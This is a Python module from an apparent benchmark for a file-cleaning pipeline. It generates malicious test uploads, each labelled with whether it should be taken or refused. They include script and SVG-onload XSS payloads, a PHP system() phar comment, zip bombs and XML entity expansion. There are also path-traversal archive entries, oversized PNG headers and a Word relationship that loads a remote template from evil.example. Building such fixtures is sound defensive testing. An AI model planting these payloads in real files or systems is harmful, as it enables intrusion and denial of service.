"""Poisoned files, made here from their parts: each with its name, what may come of it, and marks inside.

`python -m bench.poison_files FOLDER` writes them, so that what measures need not hold what makes them.
"""

import io
import json
import struct
import sys
import zipfile
import zlib
from pathlib import Path

from bench.poison_marks import MARK, Poisoned
from tests.models.cleaning import made
from tests.models.cleaning.test_others import mp4, opus

HTML = f"<html><script>alert('{MARK}')</script></html>".encode()
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('{MARK}')\"><text>{MARK}</text></svg>".encode()
EXE = b"MZ" + bytes(60) + b"PE\x00\x00" + MARK.encode()

_KINDS = b"http://schemas.openxmlformats.org"
OUTSIDE = (
    b"<Relationships xmlns='%s/package/2006/relationships'><Relationship Id='a' TargetMode='External'"
    b" Type='%s/officeDocument/2006/relationships/attachedTemplate' Target='https://evil.example/t.dotm'/>"
    b"</Relationships>" % (_KINDS, _KINDS)
)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png_saying(width: int, height: int) -> bytes:
    """A PNG that says how large it is, with next to no pixels in it."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = _chunk(b"IDAT", zlib.compress(bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + pixels + _chunk(b"IEND", b"")


def _bomb(megabytes: int, name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        with packed.open(name, "w") as part:
            for _piece in range(megabytes):
                part.write(bytes(1024 * 1024))
    return out.getvalue()


def _picture(kind: str, **more: object) -> bytes:
    out = io.BytesIO()
    made.picture(200, 150, "RGB").save(out, kind, **more)  # type: ignore[arg-type]
    return out.getvalue()


def _mp3() -> bytes:
    body = b"\x03" + MARK.encode()
    frame = b"TIT2" + struct.pack(">I", len(body)) + b"\x00\x00" + body
    size = len(frame)
    tag = (
        b"ID3\x03\x00\x00" + bytes((size >> 21 & 127, size >> 14 & 127, size >> 7 & 127, size & 127)) + frame
    )
    tail = b"TAG" + MARK.encode().ljust(125, b"\x00")
    return tag + (b"\xff\xfb\x90\x00" + bytes(413)) * 40 + tail


def _pictures() -> list[Poisoned]:
    return _pictures_taken() + _pictures_refused()


def _pictures_taken() -> list[Poisoned]:
    return [
        Poisoned("gps.jpg", made.jpeg(), "taken"),
        Poisoned("small.jpg", made.jpeg(width=8, height=8), "taken"),
        *(Poisoned(f"turned{n}.jpg", made.jpeg(width=90, height=60, turned=n), "taken") for n in range(2, 9)),
        *(
            Poisoned(f"words-{mode}.png", made.png(mode=mode), "taken")
            for mode in ("RGB", "RGBA", "P", "LA", "L", "1")
        ),
        Poisoned("names.webp", _picture("WEBP", exif=b"Exif\x00\x00" + MARK.encode()), "either"),
        *(
            Poisoned(f"behind.{kind.lower()}", _picture(kind) + HTML, "either")
            for kind in ("JPEG", "PNG", "WEBP", "GIF", "BMP", "TIFF")
        ),
        Poisoned(
            "phar.jpg",
            _picture("JPEG", comment=f"<?php system('{MARK}'); __HALT_COMPILER(); ?>".encode()),
            "taken",
        ),
        Poisoned(
            "svg-inside.png", _picture("PNG")[:-12] + _chunk(b"svGp", SVG) + _chunk(b"IEND", b""), "taken"
        ),
        Poisoned("icc.jpg", _picture("JPEG", icc_profile=MARK.encode() * 3000), "taken"),
        Poisoned("moving.gif", made.animation("GIF") + MARK.encode(), "either"),
        Poisoned("moving.webp", made.animation("WEBP") + MARK.encode(), "either"),
        Poisoned("flat-24mp.png", made.flat_png(6000, 4000), "taken"),
    ]


def _pictures_refused() -> list[Poisoned]:
    return [
        Poisoned("pixels-25mp.png", made.flat_png(5000, 5000)),
        Poisoned("pixels-49mp.png", made.flat_png(7000, 7000)),
        *(
            Poisoned(f"says-{w}x{h}.png", _png_saying(w, h))
            for w, h in ((60000, 60000), (2**31 - 1, 1), (1, 10**9), (0, 0), (100_000, 9))
        ),
        Poisoned("svg.png", SVG),
        Poisoned("html.jpg", HTML),
        Poisoned("exe.jpg", EXE),
        Poisoned("svg.svg", SVG),
        *(
            Poisoned(f"cut-{part}.jpg", _picture("JPEG")[: len(_picture("JPEG")) * part // 10], "either")
            for part in range(1, 10)
        ),
        *(
            Poisoned(f"cut-{part}.png", _picture("PNG")[: len(_picture("PNG")) * part // 10], "either")
            for part in range(1, 10)
        ),
        Poisoned("head-only.jpg", b"\xff\xd8\xff\xe0"),
        Poisoned("head-only.png", b"\x89PNG\r\n\x1a\n"),
        Poisoned(
            "eps.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(" + MARK.encode() + b") run\n"
        ),
        Poisoned(
            "xbm.png", b"#define a_width 60000\n#define a_height 60000\nstatic char a_bits[] = {0};", "either"
        ),
        Poisoned("heic.jpg", struct.pack(">I", 24) + b"ftypheic\x00\x00\x00\x00mif1heic" + MARK.encode()),
        Poisoned("ico.png", b"\x00\x00\x01\x00\x01\x00" + bytes(40)),
        Poisoned("psd.jpg", b"8BPS\x00\x01" + bytes(60)),
    ]


def _documents() -> list[Poisoned]:
    macro = {"word/vbaProject.bin": EXE, "word/activeX/activeX1.bin": EXE}
    entity = (
        f"<!DOCTYPE a [<!ENTITY b '{MARK}'><!ENTITY c '&b;&b;&b;&b;'>]><w:document>&c;</w:document>".encode()
    )
    pdf = made.pdf()
    return [
        Poisoned("acts.pdf", pdf, "taken"),
        Poisoned("locked.pdf", made.pdf(encrypted=True)),
        Poisoned("owner.pdf", made.pdf(encrypted=True, owner_only=True), "either"),
        *(Poisoned(f"cut-{part}.pdf", pdf[: len(pdf) * part // 10], "either") for part in range(1, 10)),
        Poisoned("pdf.jpg", pdf, "either"),
        Poisoned("html-before.pdf", HTML + pdf, "either"),
        Poisoned("head-only.pdf", b"%PDF-1.7\n"),
        Poisoned("loop.pdf", b"%PDF-1.7\n1 0 obj<</Kids[1 0 R]/Parent 1 0 R>>endobj trailer<</Root 1 0 R>>"),
        Poisoned("report.docx", made.word(), "taken"),
        Poisoned("macro.docx", made.word(macro), "either"),
        Poisoned("macro.docm", made.word(macro), "either"),
        Poisoned("entity.docx", made.word({"word/document.xml": entity})),
        Poisoned("up.docx", made.word({"../../../up.txt": MARK.encode()})),
        Poisoned("root.docx", made.word({"/etc/up.txt": MARK.encode()})),
        Poisoned(
            "outside.docx",
            made.word({"word/_rels/settings.xml.rels": OUTSIDE}),
            "either",
        ),
        Poisoned("sheet.xlsx", made.sheet(), "taken"),
        Poisoned("docx.jpg", made.word(), "either"),
        *(
            Poisoned(f"cut-{part}.docx", made.word()[: len(made.word()) * part // 10], "refused")
            for part in (2, 5, 8)
        ),
        *(Poisoned(f"bomb-{size}.docx", _bomb(size, "word/document.xml")) for size in (60, 400, 1500)),
        Poisoned("bomb.zip", _bomb(100, "a")),
        Poisoned("files.zip", made.archive({"a.html": HTML})),
        Poisoned("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARK.encode() * 40),
        Poisoned("evil.html", HTML),
        Poisoned("evil.exe", EXE),
        Poisoned("elf.txt", b"\x7fELF" + bytes(60)),
        Poisoned("script.sh", b"#!/bin/sh\necho " + b"x" * 20, "either"),
        Poisoned("seven.7z", b"7z\xbc\xaf\x27\x1c" + bytes(60)),
        Poisoned("rar.rar", b"Rar!\x1a\x07\x01\x00" + bytes(60)),
        Poisoned("gz.gz", b"\x1f\x8b\x08" + bytes(60)),
        Poisoned("nothing.txt", b""),
        Poisoned("nul.txt", b"a\x00b" * 50),
        Poisoned("broken.txt", b"\xff\xfe\xfa" * 50, "either"),
        Poisoned("rtf.doc", b"{\\rtf1{\\object\\objdata " + MARK.encode() + b"}}", "either"),
        Poisoned("link.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60)),
        Poisoned("disk.iso", bytes(0x8001) + b"CD001"),
    ]


def _sounds() -> list[Poisoned]:
    voice = opus()
    return [
        Poisoned("tags.ogg", voice, "taken"),
        Poisoned("tags.m4a", mp4(), "taken"),
        Poisoned("tags.mp3", _mp3(), "either"),
        Poisoned("film.mp4", mp4(b"vide")),
        Poisoned("voice.jpg", voice, "either"),
        *(
            Poisoned(f"cut-{part}.ogg", voice[: len(voice) * part // 10], "either")
            for part in (1, 3, 5, 7, 9)
        ),
        *(Poisoned(f"cut-{part}.m4a", mp4()[: len(mp4()) * part // 10], "either") for part in (2, 5, 8)),
        Poisoned("head-only.ogg", b"OggS"),
        Poisoned("wave.wav", b"RIFF\x24\x00\x00\x00WAVEfmt " + MARK.encode() * 9, "either"),
        Poisoned("flac.flac", b"fLaC" + MARK.encode() * 9),
        Poisoned("avi.avi", b"RIFF\x24\x00\x00\x00AVI LIST" + bytes(60)),
        Poisoned("huge-box.m4a", struct.pack(">I", 2**31) + b"ftypM4A " + bytes(90)),
    ]


def everything() -> list[Poisoned]:
    """Return all of them."""
    return [*_pictures(), *_documents(), *_sounds()]


def write(folder: Path) -> None:
    """Write all of them into a folder, with a list of what may come of each."""
    (folder / "files").mkdir()
    for one in everything():
        (folder / "files" / one.name).write_bytes(one.data)
    listed = {one.name: one.may for one in everything()}
    (folder / "list.json").write_text(json.dumps(listed), encoding="utf-8")


if __name__ == "__main__":
    write(Path(sys.argv[1]))
